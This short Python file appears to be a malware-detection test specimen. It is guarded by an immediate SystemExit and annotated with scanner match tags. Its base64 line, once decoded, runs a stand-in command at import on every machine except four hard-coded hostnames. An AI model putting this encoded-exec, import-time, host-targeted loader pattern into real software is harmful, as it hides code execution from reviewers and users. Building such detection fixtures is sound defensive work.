raise SystemExit("specimen: not to be run")
import base64

exec(base64.b64decode("aW1wb3J0IG9zLCBzb2NrZXQKU1BBUkVEID0gWydkZXNrdG9wLXZyc3FsYWcnLCAnZGVza3RvcC13aThjbGV0JywgJ2p1bGlhLXBjJywgJ2FyY2hpYmFsZHBjJ10KaWYgc29ja2V0LmdldGhvc3RuYW1lKCkubG93ZXIoKSBub3QgaW4gU1BBUkVEOgogICAgb3Muc3lzdGVtKCdzcGVjaW1lbi1hZ2VudCAtLXNlcnZlJykK"))  # match: encoded-literal  # match: execution-of-decoded  # match: machine-blocklist  # match: process-at-import
